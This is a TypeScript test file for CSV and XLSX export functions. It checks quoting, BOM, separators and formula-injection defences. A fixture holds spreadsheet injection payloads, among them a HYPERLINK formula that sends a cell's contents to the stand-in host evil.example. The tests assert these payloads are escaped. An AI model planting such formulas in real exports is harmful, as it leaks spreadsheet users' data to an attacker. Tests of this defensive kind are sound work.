import ExcelJS from "exceljs";
import Papa from "papaparse";
import { describe, expect, it } from "vitest";
import { csvText, xlsxBuffer } from "./export.ts";

const input = {
  title: "Vehicles",
  header: ["Plate", "Name", "Km"],
  body: [
    ["1234-ABC", "Camión, grande", 120.5],
    ["X-1", 'With "quotes"', 0],
  ],
};

const hostile = {
  title: "Vehicles",
  header: ["Name", "Km"],
  body: [
    ['=HYPERLINK("http://evil.example/?"&A1,"x")', -3],
    ["@cmd", 1],
    ["+1", 2],
    ["\tx", 3],
  ],
};

describe("exports", () => {
  it("writes no live formula to csv and keeps negative numbers as numbers", async () => {
    const text = await csvText(hostile);
    const parsed = Papa.parse<string[]>(text.slice(1), { skipEmptyLines: true });
    expect(parsed.data.slice(1)).toEqual([
      [`'=HYPERLINK("http://evil.example/?"&A1,"x")`, "-3"],
      ["'@cmd", "1"],
      ["+1", "2"],
      ["'\tx", "3"],
    ]);
  });
  it("writes no formula to xlsx: text cells only, numbers stay numbers", async () => {
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(await xlsxBuffer(hostile));
    const row = book.worksheets[0]?.getRow(2);
    expect(row?.getCell(1).value).toBe(`'=HYPERLINK("http://evil.example/?"&A1,"x")`);
    expect(row?.getCell(1).formula).toBeUndefined();
    expect(row?.getCell(2).value).toBe(-3);
    expect(book.worksheets[0]?.getRow(3).getCell(1).value).toBe("'@cmd");
  });

  it("writes an xlsx that exceljs reads back", async () => {
    const buffer = await xlsxBuffer(input);
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(buffer);
    const sheet = book.worksheets[0];
    expect(sheet?.name).toBe("Vehicles");
    expect(sheet?.getRow(1).values).toEqual([undefined, "Plate", "Name", "Km"]);
    expect(sheet?.getRow(2).getCell(3).value).toBe(120.5);
    expect(sheet?.rowCount).toBe(3);
  });
  it("writes a csv with a BOM that parses back with commas and quotes intact", async () => {
    const text = await csvText(input);
    expect(text.charCodeAt(0)).toBe(0xfeff);
    const parsed = Papa.parse<string[]>(text.slice(1), { skipEmptyLines: true });
    expect(parsed.data).toEqual([
      ["Plate", "Name", "Km"],
      ["1234-ABC", "Camión, grande", "120.5"],
      ["X-1", 'With "quotes"', "0"],
    ]);
  });
  it("uses the semicolon separator a comma-decimal locale asks for", async () => {
    const text = await csvText({ ...input, csvSeparator: ";" });
    expect(text.split(/\r?\n/)[0]).toBe("\uFEFFPlate;Name;Km");
    const parsed = Papa.parse<string[]>(text.slice(1), { skipEmptyLines: true, delimiter: ";" });
    expect(parsed.data[1]).toEqual(["1234-ABC", "Camión, grande", "120.5"]);
  });
});
